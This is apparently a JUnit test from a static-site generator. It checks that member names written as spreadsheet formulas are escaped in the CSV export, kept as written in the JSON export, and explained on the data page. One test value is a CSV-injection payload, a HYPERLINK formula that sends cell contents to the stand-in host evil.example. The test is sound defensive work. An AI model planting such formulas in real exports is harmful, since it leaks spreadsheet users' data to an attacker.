package org.plenary.hostile;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertTrue;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.ObjectMapper;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.plenary.build.TestSite;
import org.plenary.build.TestSite.Run;

/** A name written as a spreadsheet formula reaches members.csv neutralised and members.json unchanged; /data/ says so. */
class CsvInjectionTest {
    @TempDir
    Path tmp;

    @Test
    void formulaInANameIsNeutralisedInCsvOnly() throws Exception {
        String formula = "=HYPERLINK(\"https://evil.example/?\"&A1,\"Jane\")";
        TestSite s = TestSite.mini(tmp).write("data/members/x.yaml",
                "id: jane-doe\nname: '" + formula + "'\nregion: afralo\naffiliation: '@SUM(1+1)'\n");
        Run r = s.build(s.beside("out"), "--links", "off");
        assertEquals(0, r.exitCode(), r::toString);
        Path data = s.beside("out").resolve("data");
        String csv = Files.readString(data.resolve("members.csv"), StandardCharsets.UTF_8);
        assertTrue(csv.contains("\"'=HYPERLINK(\"\"https://evil.example/?\"\"&A1,\"\"Jane\"\")\""), csv);
        assertTrue(csv.contains("\"'@SUM(1+1)\""), csv);
        JsonNode json = new ObjectMapper().readTree(data.resolve("members.json").toFile());
        boolean found = false;
        for (JsonNode m : json.get("records")) {
            if (m.get("id").asText().equals("jane-doe")) {
                assertEquals(formula, m.get("name").asText(), "JSON keeps the value as written");
                found = true;
            }
        }
        assertTrue(found);
        String excel = Files.readString(data.resolve("members-excel.csv"), StandardCharsets.UTF_8);
        assertEquals("\uFEFF" + csv, excel, "the spreadsheet copy is the same CSV with a byte-order mark");
        String page = Files.readString(data.resolve("index.html"), StandardCharsets.UTF_8);
        assertTrue(page.contains("CSV injection") && page.contains("byte-order mark"), "the data page explains both");
    }
}
